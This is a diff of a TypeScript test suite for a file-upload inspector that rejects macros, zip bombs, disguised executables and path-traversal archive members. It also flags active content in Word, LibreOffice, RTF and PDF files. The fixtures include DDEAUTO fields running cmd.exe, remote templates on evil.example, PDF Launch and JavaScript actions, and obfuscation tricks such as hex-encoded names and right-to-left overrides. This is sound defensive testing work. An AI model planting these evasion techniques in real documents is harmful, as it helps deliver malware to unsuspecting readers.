@@ -4,11 +4,23 @@ import { archiveLimits } from '#contract/files.ts';
 import { inspect } from '#server/platform/inspection/inspect.ts';
 import { compoundFile, lockedZip, pdfOf, rarOf, wordStreams, zipOf } from './documents.ts';
 
+type Content = string | (() => Buffer | Promise<Buffer>);
+type Cases = [about: string, content: () => Buffer | Promise<Buffer>][];
+
 const MEBIBYTE = 1024 * 1024;
 const zeros = (mebibytes: number) => Buffer.alloc(mebibytes * MEBIBYTE);
 const text = Buffer.from('The registration certificate.');
 const document = { '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>' };
-const withMacros = { ...document, 'word/vbaProject.bin': 'VBA' };
+
+const zipWith = (files: Record<string, Content>) => async () => {
+  const contents = Object.entries(files).map(async ([name, content]) => [
+    name,
+    typeof content === 'string' ? content : await content(),
+  ]);
+  return zipOf(Object.fromEntries(await Promise.all(contents)));
+};
+const docxWith = (parts: Record<string, Content>) => zipWith({ ...document, ...parts });
+const withMacros = docxWith({ 'word/vbaProject.bin': 'VBA' });
 const wordWithMacros = () =>
   compoundFile({ ...wordStreams(), '/Macros/VBA/dir': Buffer.alloc(64, 1) });
 /** A zip whose headers say 10 bytes instead of 10 MiB. */
@@ -24,279 +36,159 @@ const many = Object.fromEntries(
   Array.from({ length: archiveLimits.maxMembers + 1 }, (_, index) => [`${index}.txt`, '']),
 );
 /** A workbook of Excel 97 whose first sheet has this type. */
-function workbookOf(type: number): Buffer {
+const workbookOf = (type: number) => () => {
   const workbook = Buffer.alloc(4096);
   workbook.set([0x09, 0x08, 2, 0, 0, 6, 0x85, 0, 8, 0, 0, 0, 0, 0, 0, type]);
-  return workbook;
-}
-type RejectedCase = [
-  about: string,
-  reason: string,
-  inside: string | null,
-  content: () => Buffer | Promise<Buffer>,
-  name?: string,
-];
+  return compoundFile({ '/Workbook': workbook });
+};
+const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const relation = (type: string, target: string, mode = 'TargetMode="External"') =>
+  `<Relationships><Relationship Id="r1" Type="${RELATION}/${type}" Target="${target}" ${mode}/></Relationships>`;
 const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
 
-describe('an inspection rejects', () => {
-  it.each<RejectedCase>([
-    ['a Word document with macros', 'macros', null, () => zipOf(withMacros), 'a.docx'],
-    ['an old Word document with macros', 'macros', null, wordWithMacros, 'a.doc'],
+describe('an inspection rejects a whole file:', () => {
+  it.each<[reason: string, name: string, content: () => Buffer | Promise<Buffer>]>([
+    ['macros', 'a.docx', withMacros],
+    ['macros', 'a.doc', wordWithMacros],
+    // Under an unusual name.
     [
-      'a Word document with macros under an unusual name',
-      'macros',
-      null,
-      () =>
-        zipOf({ ...document, 'word/_rels/document.xml.rels': relation('vbaProject', 'a.png', '') }),
-      'a.docx',
-    ],
-    [
-      'a document with macros under an old name inside a zip',
-      'macros',
-      'a.doc',
-      async () => zipOf({ 'a.doc': await zipOf(withMacros) }),
-    ],
-    [
-      'an old document with macros under a new name inside a zip',
       'macros',
       'a.docx',
-      () => zipOf({ 'a.docx': wordWithMacros() }),
+      docxWith({ 'word/_rels/document.xml.rels': relation('vbaProject', 'a.png', '') }),
     ],
-    ...['__MACOSX/a.docm', 'x/~$a.docm'].map(
-      (member): RejectedCase => [
-        `a document with macros in the place of ${member}`,
-        'macros',
-        member,
-        async () => zipOf({ [member]: await zipOf(withMacros) }),
-        'a.zip',
-      ],
+    ['notWord', 'a.doc', () => compoundFile({ '/Workbook': text })],
+    ['notWord', 'a.doc', () => compoundFile({ '/WordDocument': Buffer.alloc(4096) })],
+    // Unpacks to 100 times its size.
+    ['archive', 'a.zip', () => zipOf({ 'a.txt': zeros(64) })],
+    ['archive', 'a.zip', lyingZip],
+    ['archive', 'a.zip', () => zipOf(many)],
+    // Declares a terabyte.
+    ['archive', 'a.rar', () => rarOf({ name: 'a.txt', content: text, size: 2 ** 40 })],
+  ])('%s in %s', async (rejected, name, content) => {
+    expect(await inspect(name, await content())).toEqual({ rejected, inside: null });
+  });
+});
+
+const compound = 'doc dot xls xla xlt ppt pps pot'.split(' ');
+const office = 'docx docm dotm xlsx xlsm xlsb xltm xlam pptx pptm ppsm potm ppam'.split(' ');
+const packedKinds = '7z ace arj bz2 cab gz img iso jar lzh tar tgz vhd vhdx xz zipx zst'.split(' ');
+const programKinds =
+  'chm hlp desktop diagcab xbap rdp fileloc inetloc terminal appcontent-ms theme apk pl rb php so';
+
+/** Rejected members of an archive or a document, by reason. */
+const rejectedMembers: Record<string, [member: string, content: Content][]> = {
+  macros: [
+    ...compound.map((kind): [string, Content] => [`a.${kind}`, wordWithMacros]),
+    ...office.map((kind): [string, Content] => [`a.${kind}`, withMacros]),
+    // A document of the other format.
+    ['old.doc', withMacros],
+    ['new.docx', wordWithMacros],
+    ['x/a.docm', withMacros],
+    ['__MACOSX/a.docm', withMacros],
+    ['x/~$a.docm', withMacros],
+    ['a.docm ', withMacros],
+    ['sheet.xlsm', zipWith({ 'xl/macrosheets/sheet1.xml': '<f>EXEC("calc")</f>' })],
+    ['sheet.xls', workbookOf(1)],
+    ['a.odt', zipWith({ 'Basic/Standard/Module1.xml': '<module/>' })],
+  ],
+  archive: [
+    ...packedKinds.map((kind): [string, Content] => [`a.${kind}`, 'EICAR']),
+    ['x/b.rar', () => rarOf({ name: 'a.txt', content: text })],
+  ],
+  program: [
+    'setup.exe',
+    'letter.pdf.JS',
+    'a.lnk',
+    'a.hta',
+    'x/a.scr. ',
+    'a.vbs',
+    'a.url',
+    ...programKinds.split(' ').map((kind) => `a.${kind}`),
+    'a.exe\u200b',
+    'a.exe\u00a0.\u2060',
+    'Setup.app/Contents/MacOS/Setup',
+    'proof\u202efdp.exe',
+    'proof\u202excod.png',
+  ].map((name) => [name, 'MZ']),
+  path: ['../../etc/passwd', '..\\a.txt', '/etc/passwd', 'C:/a.txt'].map((name) => [name, 'root']),
+};
+
+describe('an inspection rejects a member:', () => {
+  it.each(
+    Object.entries(rejectedMembers).flatMap(([rejected, members]) =>
+      members.map(([inside, content]) => ({ rejected, inside, content })),
     ),
+  )('$rejected in $inside inside a zip', async ({ rejected, inside, content }) => {
+    const zip = await zipWith({ [inside]: content })();
+    expect(await inspect('a.zip', zip)).toEqual({ rejected, inside });
+  });
+
+  const nested = docxWith({ 'word/embeddings/b.doc': wordWithMacros });
+  it.each<[rejected: string, inside: string, name: string, content: Exclude<Content, string>]>([
     [
-      'a document with macros under a name with a space at its end, inside a zip',
       'macros',
-      'a.docm ',
-      async () => zipOf({ 'a.docm ': await zipOf(withMacros) }),
-    ],
-    ...['word/embeddings/a.docm', 'word/media/image1.png'].map(
-      (part): RejectedCase => [
-        `a document with macros inside a Word document as ${part}`,
-        'macros',
-        part,
-        async () => zipOf({ ...document, [part]: await zipOf(withMacros) }),
-        'a.docx',
-      ],
-    ),
-    [
-      'an old document with macros inside a Word document inside a Word document',
-      'macros',
-      'word/embeddings/b.doc',
-      async () =>
-        zipOf({
-          ...document,
-          'word/embeddings/a.docx': await zipOf({
-            ...document,
-            'word/embeddings/b.doc': wordWithMacros(),
-          }),
-        }),
+      'word/embeddings/a.docm',
       'a.docx',
+      docxWith({ 'word/embeddings/a.docm': withMacros }),
     ],
     [
-      'a workbook with a macro sheet inside a zip',
       'macros',
-      'a.xlsm',
-      async () =>
-        zipOf({ 'a.xlsm': await zipOf({ 'xl/macrosheets/sheet1.xml': '<f>EXEC("calc")</f>' }) }),
+      'word/media/image1.png',
+      'a.docx',
+      docxWith({ 'word/media/image1.png': withMacros }),
     ],
+    ['macros', 'word/embeddings/b.doc', 'a.docx', docxWith({ 'word/embeddings/a.docx': nested })],
+    ['macros', 'a.doc', 'a.rar', () => rarOf({ name: 'a.doc', content: wordWithMacros() })],
     [
-      'an old workbook with a macro sheet inside a zip',
-      'macros',
-      'a.xls',
-      () => zipOf({ 'a.xls': compoundFile({ '/Workbook': workbookOf(1) }) }),
-    ],
-    [
-      'a document with macros inside a zip',
-      'macros',
-      'x/a.docm',
-      async () => zipOf({ 'x/a.docm': await zipOf(withMacros) }),
-    ],
-    [
-      'a document with macros inside a RAR archive',
-      'macros',
-      'a.doc',
-      () => rarOf({ name: 'a.doc', content: wordWithMacros() }),
-      'a.rar',
-    ],
-    ...'doc dot xls xla xlt ppt pps pot'
-      .split(' ')
-      .map(
-        (kind): RejectedCase => [
-          `macros in a .${kind} inside a zip`,
-          'macros',
-          `a.${kind}`,
-          () => zipOf({ [`a.${kind}`]: wordWithMacros() }),
-        ],
-      ),
-    ...'docx docm dotm xlsx xlsm xlsb xltm xlam pptx pptm ppsm potm ppam'
-      .split(' ')
-      .map(
-        (kind): RejectedCase => [
-          `macros in a .${kind} inside a zip`,
-          'macros',
-          `a.${kind}`,
-          async () => zipOf({ [`a.${kind}`]: await zipOf(withMacros) }),
-        ],
-      ),
-    ...'7z ace arj bz2 cab gz img iso jar lzh tar tgz vhd vhdx xz zipx zst'
-      .split(' ')
-      .map(
-        (kind): RejectedCase => [
-          `a .${kind}, which nobody looks into, inside a zip`,
-          'archive',
-          `a.${kind}`,
-          () => zipOf({ [`a.${kind}`]: 'EICAR' }),
-        ],
-      ),
-    [
-      'a RAR archive inside a zip',
-      'archive',
-      'x/b.rar',
-      () => zipOf({ 'x/b.rar': rarOf({ name: 'a.txt', content: text }) }),
-    ],
-    [
-      'a document of LibreOffice with macros inside a zip',
-      'macros',
-      'a.odt',
-      async () => zipOf({ 'a.odt': await zipOf({ 'Basic/Standard/Module1.xml': '<module/>' }) }),
-    ],
-    [
-      'a workbook called a Word document',
-      'notWord',
-      null,
-      () => compoundFile({ '/Workbook': text }),
-      'a.doc',
-    ],
-    [
-      'a stream of another program called WordDocument',
-      'notWord',
-      null,
-      () => compoundFile({ '/WordDocument': Buffer.alloc(4096) }),
-      'a.doc',
-    ],
-    [
-      'a zip that unpacks to 100 times its size',
-      'archive',
-      null,
-      () => zipOf({ 'a.txt': zeros(64) }),
-    ],
-    ['a zip whose headers lie about its size', 'archive', null, lyingZip],
-    ['a zip with too many members', 'archive', null, () => zipOf(many)],
-    [
-      'a zip in a zip in a zip',
       'archive',
       'b.zip',
-      async () => zipOf({ 'a.zip': await zipOf({ 'b.zip': await zipOf({ 'c.txt': 'c' }) }) }),
+      'a.zip',
+      zipWith({ 'a.zip': zipWith({ 'b.zip': zipWith({ 'c.txt': 'c' }) }) }),
     ],
-    [
-      'a RAR archive whose header declares a terabyte',
-      'archive',
-      null,
-      () => rarOf({ name: 'a.txt', content: text, size: 2 ** 40 }),
-      'a.rar',
-    ],
-    ...[
-      'setup.exe',
-      'letter.pdf.JS',
-      'a.lnk',
-      'a.hta',
-      'x/a.scr. ',
-      'a.vbs',
-      'a.url',
-      ...'chm hlp desktop diagcab xbap rdp fileloc inetloc terminal appcontent-ms theme apk pl rb php so'
-        .split(' ')
-        .map((kind) => `a.${kind}`),
-      'a.exe\u200b',
-      'a.exe\u00a0.\u2060',
-      'Setup.app/Contents/MacOS/Setup',
-      'proof\u202efdp.exe',
-      'proof\u202excod.png',
-    ].map(
-      (name): RejectedCase => [
-        `${JSON.stringify(name)} inside a zip`,
-        'program',
-        name,
-        () => zipOf({ [name]: 'MZ' }),
-      ],
-    ),
-    ['a program inside a RAR archive', 'program', 'a.exe', () => rarOf({ name: 'a.exe' }), 'a.rar'],
-    [
-      'a program inside a Word document',
-      'program',
-      'word/embeddings/a.exe',
-      () => zipOf({ ...document, 'word/embeddings/a.exe': 'MZ' }),
-      'a.docx',
-    ],
-    [
-      'a path out of the archive',
-      'path',
-      '../../etc/passwd',
-      () => zipOf({ '../../etc/passwd': 'root' }),
-    ],
-    [
-      'a path out of the archive with backslashes',
-      'path',
-      '..\\a.txt',
-      () => zipOf({ '..\\a.txt': 'a' }),
-    ],
-    ['an absolute path', 'path', '/etc/passwd', () => zipOf({ '/etc/passwd': 'root' })],
-    ['a path on a drive', 'path', 'C:/a.txt', () => zipOf({ 'C:/a.txt': 'a' })],
-    ['a path out of a RAR archive', 'path', '../a.txt', () => rarOf({ name: '../a.txt' }), 'a.rar'],
-  ])('%s', async (_, rejected, inside, content, name = 'a.zip') => {
+    ['program', 'a.exe', 'a.rar', () => rarOf({ name: 'a.exe' })],
+    ['program', 'word/embeddings/a.exe', 'a.docx', docxWith({ 'word/embeddings/a.exe': 'MZ' })],
+    ['path', '../a.txt', 'a.rar', () => rarOf({ name: '../a.txt' })],
+  ])('%s in %s of %s', async (rejected, inside, name, content) => {
     expect(await inspect(name, await content())).toEqual({ rejected, inside });
   });
 });
 
-type MarkCase = [string, readonly string[], () => Buffer | Promise<Buffer>, name?: string];
-
-const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
-const relation = (type: string, target: string, mode = 'TargetMode="External"') =>
-  `<Relationships><Relationship Id="r1" Type="${RELATION}/${type}" Target="${target}" ${mode}/></Relationships>`;
 const withFields = (xml: string) => ({ 'word/document.xml': `<w:document>${xml}</w:document>` });
-const activeParts: Record<string, Record<string, string>> = {
-  'a template elsewhere': {
-    'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example/a.dotm'),
-  },
-  'a picture on another machine': {
-    'word/_rels/document.xml.rels': relation('image', 'file:///\\\\evil.example\\a.png'),
-  },
-  'another format inside (altChunk)': {
-    'word/_rels/document.xml.rels': relation('aFChunk', 'a.mht', ''),
-  },
+const settingsRelation = (xml: string) => ({ 'word/_rels/settings.xml.rels': xml });
+const documentRelation = (xml: string) => ({ 'word/_rels/document.xml.rels': xml });
+const template = relation('attachedTemplate', 'https://evil.example/a.dotm');
+const utf16 = (isBigEndian: boolean) => () => {
+  const wide = Buffer.from(`\ufeff${template}`, 'utf16le');
+  return isBigEndian ? wide.swap16() : wide;
+};
+const activeParts: Record<string, Record<string, Content>> = {
+  'a template elsewhere': settingsRelation(template),
+  'a template elsewhere in UTF-16, big endian': { 'word/_rels/settings.xml.rels': utf16(true) },
+  'a template elsewhere in UTF-16, little endian': { 'word/_rels/settings.xml.rels': utf16(false) },
+  'a picture on another machine': documentRelation(
+    relation('image', 'file:///\\\\evil.example\\a.png'),
+  ),
+  'another format inside (altChunk)': documentRelation(relation('aFChunk', 'a.mht', '')),
   'an embedded object': { 'word/embeddings/oleObject1.bin': 'OLE' },
-  'a document as an object': {
-    'word/_rels/document.xml.rels': relation('package', 'embeddings/a.docx', ''),
-  },
+  'a document as an object': documentRelation(relation('package', 'embeddings/a.docx', '')),
   'a program inside under another name': { 'word/embeddings/a.dat': 'MZ\u0090' },
   'a control': { 'word/activeX/activeX1.bin': 'OLE' },
   'a field that runs a command': withFields('<w:fldSimple w:instr="DDEAUTO c:\\cmd.exe"/>'),
   'a field that runs a command, split into several runs': withFields(
     '<w:instrText>D</w:instrText><w:instrText xml:space="preserve">DE</w:instrText><w:instrText> cmd</w:instrText>',
   ),
-  'a template elsewhere whose address looks like a link': {
-    'word/_rels/settings.xml.rels': relation('attachedTemplate', "https://evil.example/hyperlink'"),
-  },
-  'a template elsewhere, after a > in an attribute': {
-    'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example/>a.dotm'),
-  },
-  'a template elsewhere, by character references': {
-    'word/_rels/settings.xml.rels': relation(
-      '&#x61;ttachedTemplate',
-      'https://evil.example/a.dotm',
-      'TargetMode="Extern&#97;l"',
-    ),
-  },
-  'an object under an unusual name': {
-    'word/_rels/document.xml.rels': relation('oleObject', 'embeddings/picture.png', ''),
-  },
+  'a template elsewhere whose address looks like a link': settingsRelation(
+    relation('attachedTemplate', "https://evil.example/hyperlink'"),
+  ),
+  'a template elsewhere, after a > in an attribute': settingsRelation(
+    relation('attachedTemplate', 'https://evil.example/>a.dotm'),
+  ),
+  'a template elsewhere, by character references': settingsRelation(
+    relation('&#x61;ttachedTemplate', 'https://evil.example/a.dotm', 'TargetMode="Extern&#97;l"'),
+  ),
+  'an object under an unusual name': documentRelation(
+    relation('oleObject', 'embeddings/picture.png', ''),
+  ),
   'a field under another prefix': withFields(
     '<x:instrText xmlns:x="w">DDE</x:instrText><x:instrText>AUTO c:\\cmd</x:instrText>',
   ),
@@ -305,12 +197,9 @@ const activeParts: Record<string, Record<string, string>> = {
   'a field in a part with another extension': {
     'word/main.foo': '\n<w:fldSimple w:instr="DDEAUTO c"/>',
   },
-  'a template elsewhere under another prefix': {
-    'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example').replaceAll(
-      /(<\/?)R/g,
-      '$1a-b:R',
-    ),
-  },
+  'a template elsewhere under another prefix': settingsRelation(
+    relation('attachedTemplate', 'https://evil.example').replaceAll(/(<\/?)R/g, '$1a-b:R'),
+  ),
   'a field in the glossary': {
     'word/glossary/document.xml': "<w:fldSimple w:instr='DDEAUTO c:\\cmd.exe'/>",
   },
@@ -318,16 +207,16 @@ const activeParts: Record<string, Record<string, string>> = {
     '<w:instrText>INCLUDEPICTURE "\\\\evil\\a"</w:instrText>',
   ),
 };
-/** UTF-16, as the binary format stores text. */
-const wide = (typed: string, length: number) => {
-  const buffer = Buffer.alloc(length);
-  buffer.write(typed, 1024, 'utf16le');
-  return buffer;
+/** A table stream with UTF-16 text, as the binary format stores it. */
+const withTable = (typed: string) => {
+  const table = Buffer.alloc(4096);
+  table.write(typed, 1024, 'utf16le');
+  return compoundFile({ ...wordStreams(), '/1Table': table });
 };
 const withText = (typed: string) => {
   const streams = wordStreams();
   streams['/WordDocument']?.write(typed, 2048, 'utf16le');
-  return streams;
+  return compoundFile(streams);
 };
 
 /** A PDF whose one page has these entries; the other objects have numbers from 12. */
@@ -338,346 +227,239 @@ const pdfPage = (entries: string, ...objects: string[]) =>
     `<< /Type /Page /Parent 10 0 R /MediaBox [0 0 9 9] ${entries} >>`,
     ...objects,
   );
+const link = (entries: string) => pdfPage('/Annots [12 0 R]', `<< /Type /Annot ${entries} >>`);
 const packed = (content: string | Buffer) =>
   `<< /Type /ObjStm /N 1 /First 5 >>\nstream\n${deflateSync(content).toString('latin1')}\nendstream`;
-
+const LAUNCH = '10 0 << /S /Launch /F (cmd.exe) >>';
+const attachedFile = (from: number) => [
+  `<< /Type /Filespec /F (a.exe) /EF << /F ${from} 0 R >> >>`,
+  '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
+];
 const locked = () => compoundFile({ '/EncryptedPackage': Buffer.alloc(64) });
 
-describe('an inspection marks', () => {
-  it.each<MarkCase>([
-    ['a Word document with a password', ['password'], locked, 'a.docx'],
-    [
-      'a workbook with a password inside a zip',
-      ['password'],
-      () => zipOf({ 'a.xlsx': locked() }),
-      'a.zip',
+/** Marked files, by marks and name. */
+const marked: Record<string, Record<string, Cases>> = {
+  password: {
+    'a.docx': [['with a password', locked]],
+    'a.zip': [
+      ['with a password', lockedZip],
+      ['with a workbook with a password', zipWith({ 'a.xlsx': locked })],
     ],
-    [
-      'a document that does not match its extension, inside a zip',
-      ['unreadable'],
-      () => zipOf({ 'a.pdf': pdfOf(), 'letter.doc': '{\\rtf1 Letter}' }),
-      'a.zip',
+  },
+  unreadable: {
+    'a.pdf': [
+      [
+        'with a packed object whose dictionary is long',
+        () => pdfOf('', packed('10 0 << /S /Launch >>').replace('/N 1', `/N 1${' '.repeat(2000)}`)),
+      ],
+      [
+        'with a packed object that is compressed in another way',
+        () => pdfOf('', '<< /Type /ObjStm /N 1 /First 5 >>\nstream\nLaunch?\nendstream'),
+      ],
+      ['whose packed objects exceed the limit', () => pdfOf('', packed(zeros(20)).repeat(3))],
+      ['that is damaged', () => Buffer.from('%PDF-1.7\n')],
     ],
-    [
-      'an HTML page named as a workbook, inside a zip',
-      ['script', 'unreadable'],
-      () => zipOf({ 'drives.xls': '<html><script>run()</script>' }),
-      'a.zip',
+    'a.zip': [
+      ['that is damaged', () => Buffer.from('PK\u0003\u0004')],
+      [
+        'with a document that does not match its extension',
+        zipWith({ 'a.pdf': () => pdfOf(), 'letter.doc': '{\\rtf1 Letter}' }),
+      ],
     ],
-    [
-      'a zip made on a Mac, and a lock file of Office',
-      [],
-      async () =>
-        zipOf({
-          'a.docx': await zipOf(document),
+  },
+  'script unreadable': {
+    'a.zip': [
+      [
+        'with an HTML page named as a workbook',
+        zipWith({ 'drives.xls': '<html><script>run()</script>' }),
+      ],
+    ],
+  },
+  attachment: {
+    'a.pdf': [
+      [
+        'with an associated file',
+        () =>
+          pdfOf(
+            '/AF [10 0 R]',
+            '<< /Type /Filespec /F (a.exe) /E#46 << /F 11 0 R >> >>',
+            '<< /Length 2 >>\nstream\nMZ\nendstream',
+          ),
+      ],
+      [
+        'with an attached file',
+        () => pdfOf('/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>', ...attachedFile(11)),
+      ],
+      [
+        'with a file in a note on its second page',
+        () =>
+          pdfOf(
+            '/Pages 10 0 R',
+            '<< /Type /Pages /Kids [3 0 R 11 0 R] /Count 2 >>',
+            '<< /Type /Page /Parent 10 0 R /MediaBox [0 0 200 200] /Annots [12 0 R] >>',
+            '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 13 0 R >>',
+            ...attachedFile(14),
+          ),
+      ],
+    ],
+  },
+  script: {
+    'a.docx': Object.entries(activeParts).map(([about, parts]) => [
+      `with ${about}`,
+      docxWith(parts),
+    ]),
+    'a.doc': [
+      [
+        'with an embedded object',
+        () => compoundFile({ ...wordStreams(), '/ObjectPool/_1/\u0001Ole10Native': text }),
+      ],
+      [
+        'with a field that runs a command',
+        () => withText('\u0013 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" \u0014'),
+      ],
+      ['with a template elsewhere', () => withTable('https://evil.example/a.dotm')],
+    ],
+    'a.zip': [
+      ...[
+        '<office:event-listeners><script:event-listener xlink:href="a"/></office:event-listeners>',
+        '<draw:image xlink:href="http://evil.example/a.png"/>',
+        '<draw:image draw:name=">" xlink:href="\\\\evil\\a.png"/>',
+        '<text:section-source xlink:href="file://evil/a.odt"/>',
+        '<style:background-image xlink:href="//evil/a.png"/>',
+      ].map((xml): Cases[number] => [
+        `with a document of LibreOffice with ${xml}`,
+        zipWith({ 'a.odt': zipWith({ 'content.xml': '<a/>', 'styles.xml': `<o>${xml}</o>` }) }),
+      ]),
+      ...Object.entries({
+        'a.htm': '<img src=x onerror=run()>',
+        'a.html': '<html><script>',
+        'a.svg': '<svg>',
+        'object.rtf': '{\\rtf1 {\\object\\objdata 01}}',
+        'template.rtf': '{\\rtf1{\\*  \\template http://evil.example}}',
+        'a.xlsx': zipWith({
+          'xl/externalLinks/externalLink1.xml': '<ddeLink ddeService="cmd"/>',
+        }),
+        'a.pdf': () => pdfOf('/OpenAction 10 0 R', SCRIPT),
+      }).map(([name, content]): Cases[number] => [`with ${name}`, zipWith({ [name]: content })]),
+    ],
+    'a.pdf': [
+      ...[
+        '/SubmitForm /F (http://evil.example)',
+        '/ImportData /F (\\\\\\\\evil\\\\a)',
+        '/GoToR /F (\\\\\\\\evil\\\\a.pdf)',
+        '/GoToE /T << /R /C /N (a) >>',
+        '/Rendition /R 11 0 R',
+        '/L#61unch /F (cmd.exe)',
+        '/#4c#61#75#6E#63#68#20/F (cmd.exe)',
+      ].map((action): Cases[number] => [
+        `with the action ${action}`,
+        () => pdfOf('/OpenAction 10 0 R', `<< /S ${action} >>`),
+      ]),
+      ['that opens with a script', () => pdfOf('/OpenAction 10 0 R', SCRIPT)],
+      ['with a program of media', () => pdfOf('', '<< /Type /Annot /Subtype /RichMedia >>')],
+      ['with a script that opens its page', () => pdfPage(`/AA << /O ${SCRIPT} >>`)],
+      [
+        'with a script in a field of a page',
+        () => link(`/Subtype /Widget /FT /Btn /T (a) /Rect [0 0 9 9] /AA << /U ${SCRIPT} >>`),
+      ],
+      [
+        'with a script behind a link, with an encoded name',
+        () =>
+          link('/Subtype /Link /Rect [0 0 9 9] /A << /S /#4aavaScript /JS (app.alert\\(1\\)) >>'),
+      ],
+      [
+        'with a script in its names',
+        () => pdfOf('/Names << /JavaScript << /Names [(a) 10 0 R] >> >>', SCRIPT),
+      ],
+      ['that starts a program, by a packed object', () => pdfOf('', packed(LAUNCH))],
+      [
+        'that starts a program, by the second of its packed objects',
+        () => {
+          const named = `/Title (about /ObjStm)${' '.repeat(5000)}`;
+          return pdfOf('', `${named}\n${packed('10 0 << /Type /Page >>')}\n${packed(LAUNCH)}`);
+        },
+      ],
+      [
+        'that starts a program, by a packed object with an encoded type',
+        () => pdfOf('', packed(LAUNCH).replace('/ObjStm', '/#4fbj#53tm')),
+      ],
+      [
+        'with a form that has scripts of its own (XFA)',
+        () =>
+          pdfOf(
+            '/AcroForm << /XFA 10 0 R /Fields [] >>',
+            '<< /Length 6 >>\nstream\n<xdp/>\nendstream',
+          ),
+      ],
+    ],
+  },
+  // Accepted without a mark.
+  '': {
+    'a.pdf': [
+      ['', () => pdfOf()],
+      [
+        'with names that only begin like an action',
+        () =>
+          pdfOf('', '<< /Launcher 1 /#4c#61#75#6e#63#68#65#64 2 /Lunch 3 /L 4 /L#zzunch /#4 >>/#'),
+      ],
+      [
+        'with an object stream that is not compressed',
+        () => pdfOf('', '<< /Type /ObjStm /N 1 /First 5 >>\nstream\n10 0 << /A 1 >>\nendstream'),
+      ],
+      ['full of streams without an end', () => pdfOf('', '/ObjStm stream\n'.repeat(1_000_000))],
+    ],
+    'a.docx': [
+      ['', docxWith({})],
+      [
+        'with links and a chart',
+        docxWith({
+          'word/_rels/document.xml.rels': relation('hyperlink', 'https://example.eu'),
+          'word/charts/_rels/chart1.xml.rels': relation('package', '../embeddings/a.xlsx', ''),
+          'word/embeddings/a.xlsx': zipWith({ 'xl/workbook.xml': '<workbook/>' }),
+          'word/footer1.xml': '<w:instrText> PAGE </w:instrText>',
+        }),
+      ],
+    ],
+    'a.doc': [['', () => compoundFile(wordStreams())]],
+    'a.rar': [['', () => rarOf({ name: 'a.png', content: text })]],
+    'a.zip': [
+      [
+        'made on a Mac, with a lock file of Office',
+        zipWith({
+          'a.docx': docxWith({}),
           '__MACOSX/._a.doc': '\u0000\u0005\u0016\u0007',
           'x/~$a.doc': 'me',
         }),
-      'a.zip',
-    ],
-    ...Object.entries(activeParts).map(
-      ([about, parts]): MarkCase => [
-        `a Word document with ${about}`,
-        ['script'],
-        () => zipOf({ ...document, ...parts }),
-        'a.docx',
       ],
-    ),
-    [
-      'an old Word document with an embedded object',
-      ['script'],
-      () => compoundFile({ ...wordStreams(), '/ObjectPool/_1/\u0001Ole10Native': text }),
-      'a.doc',
-    ],
-    [
-      'an old Word document with a field that runs a command',
-      ['script'],
-      () =>
-        compoundFile(withText('\u0013 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" \u0014')),
-      'a.doc',
-    ],
-    [
-      'an old Word document with a template elsewhere',
-      ['script'],
-      () =>
-        compoundFile({ ...wordStreams(), '/1Table': wide('https://evil.example/a.dotm', 4096) }),
-      'a.doc',
-    ],
-    ...[true, false].map(
-      (isBigEndian): MarkCase => [
-        `a Word document with a template elsewhere in UTF-16, ${isBigEndian ? 'big' : 'little'} endian`,
-        ['script'],
-        () => {
-          const xml = relation('attachedTemplate', 'https://evil.example/a.dotm');
-          const wide = Buffer.from(`\ufeff${xml}`, 'utf16le');
-          return zipOf({
-            ...document,
-            'word/_rels/settings.xml.rels': isBigEndian ? wide.swap16() : wide,
-          });
-        },
-        'a.docx',
-      ],
-    ),
-    ...[
-      '<office:event-listeners><script:event-listener xlink:href="a"/></office:event-listeners>',
-      '<draw:image xlink:href="http://evil.example/a.png"/>',
-      '<draw:image draw:name=">" xlink:href="\\\\evil\\a.png"/>',
-      '<text:section-source xlink:href="file://evil/a.odt"/>',
-      '<style:background-image xlink:href="//evil/a.png"/>',
-    ].map(
-      (xml): MarkCase => [
-        `a document of LibreOffice with ${xml} inside a zip`,
-        ['script'],
-        async () =>
-          zipOf({ 'a.odt': await zipOf({ 'content.xml': '<a/>', 'styles.xml': `<o>${xml}</o>` }) }),
-        'a.zip',
-      ],
-    ),
-    [
-      'an HTML page without the usual tags inside a zip',
-      ['script'],
-      () => zipOf({ 'a.htm': '<img src=x onerror=run()>' }),
-      'a.zip',
-    ],
-    ['an HTML page inside a zip', ['script'], () => zipOf({ 'a.html': '<html><script>' }), 'a.zip'],
-    [
-      'a drawing with a script inside a zip',
-      ['script'],
-      () => zipOf({ 'a.svg': '<svg>' }),
-      'a.zip',
-    ],
-    [
-      'RTF with an object inside a zip',
-      ['script'],
-      () => zipOf({ 'a.rtf': '{\\rtf1 {\\object\\objdata 01}}' }),
-      'a.zip',
-    ],
-    [
-      'RTF with a template elsewhere inside a zip',
-      ['script'],
-      () => zipOf({ 'a.rtf': '{\\rtf1{\\*  \\template http://evil.example}}' }),
-      'a.zip',
-    ],
-    [
-      'a workbook with a DDE link inside a zip',
-      ['script'],
-      async () =>
-        zipOf({
-          'a.xlsx': await zipOf({
-            'xl/externalLinks/externalLink1.xml': '<ddeLink ddeService="cmd"/>',
-          }),
-        }),
-      'a.zip',
-    ],
-    ...[
-      '/SubmitForm /F (http://evil.example)',
-      '/ImportData /F (\\\\\\\\evil\\\\a)',
-      '/GoToR /F (\\\\\\\\evil\\\\a.pdf)',
-      '/GoToE /T << /R /C /N (a) >>',
-      '/Rendition /R 11 0 R',
-    ].map(
-      (action): MarkCase => [
-        `a PDF with the action ${action}`,
-        ['script'],
-        () => pdfOf('/OpenAction 10 0 R', `<< /S ${action} >>`),
-      ],
-    ),
-    [
-      'a PDF with a program of media',
-      ['script'],
-      () => pdfOf('', '<< /Type /Annot /Subtype /RichMedia >>'),
-    ],
-    [
-      'a PDF with an associated file',
-      ['attachment'],
-      () =>
-        pdfOf(
-          '/AF [10 0 R]',
